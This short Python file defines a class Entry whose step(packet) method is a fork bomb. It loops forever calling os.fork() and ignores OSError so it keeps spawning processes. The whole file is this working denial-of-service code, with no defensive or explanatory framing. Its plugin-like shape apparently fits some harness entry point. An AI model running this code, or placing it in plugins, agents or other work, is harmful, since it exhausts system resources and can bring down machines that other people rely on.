"""Forks without end."""

import os


class Entry:
    def step(self, packet):
        while True:
            try:
                os.fork()
            except OSError:
                continue
